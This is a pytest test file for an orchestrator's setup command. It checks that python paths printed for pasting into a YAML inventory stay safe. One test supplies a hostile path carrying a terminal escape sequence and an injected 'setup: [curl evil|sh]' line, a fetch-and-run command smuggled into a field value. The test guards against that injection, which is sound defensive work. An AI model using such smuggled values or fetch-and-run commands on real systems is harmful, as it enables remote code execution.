"""What `setup` prints to be pasted, and what it takes from a python that is none."""

from __future__ import annotations

import io
from typing import Any

import pytest
import yaml

from orchestrator.commands import setup
from orchestrator.commands.setup import VENV, ReadyPython
from orchestrator.hosts.host_command import Output
from orchestrator.inventory.model import parse
from orchestrator.output.console import Console

HOSTS = parse("hosts: [a]", "inventory.yaml").hosts


@pytest.mark.parametrize(
    "python", [f"/home/ann/{VENV}/bin/python", f"/home/ann smith/{VENV}/bin/python", f"/é/{VENV}/bin/python"]
)
def test_the_line_for_the_inventory_is_yaml(capsys: pytest.CaptureFixture[str], python: str) -> None:
    setup._print_pythons(HOSTS, {"a": ReadyPython(python, "2.9.0", "installed")}, Console(io.StringIO(), False))
    assert yaml.safe_load(capsys.readouterr().out) == {"python": python}


def test_a_path_that_a_host_invents_adds_nothing_to_the_inventory(capsys: pytest.CaptureFixture[str]) -> None:
    python = f"/x/{VENV}/bin/python\x1b]0;P\x07\nsetup: [curl evil|sh]   #"
    said = io.StringIO()
    setup._print_pythons(HOSTS, {"a": ReadyPython(python, "2.9.0", "installed")}, Console(said, False))
    out = capsys.readouterr().out
    assert len(out.splitlines()) == len(said.getvalue().splitlines()) == 1 and "\x1b" not in out + said.getvalue()
    assert list(yaml.safe_load(out)) == ["python"]


@pytest.mark.parametrize("printed", ["", "\n", "hello", "[]", "{}", '{"executable": 7}', "[" * 10**5])
def test_a_python_that_answers_something_else_is_none(printed: str) -> None:
    class Fleet:
        def run_on(self, *_: Any) -> Output:
            return Output(0, printed, "")

    assert setup._inspect_python(HOSTS[0], Fleet(), "python3", ()) is None  # type: ignore[arg-type]
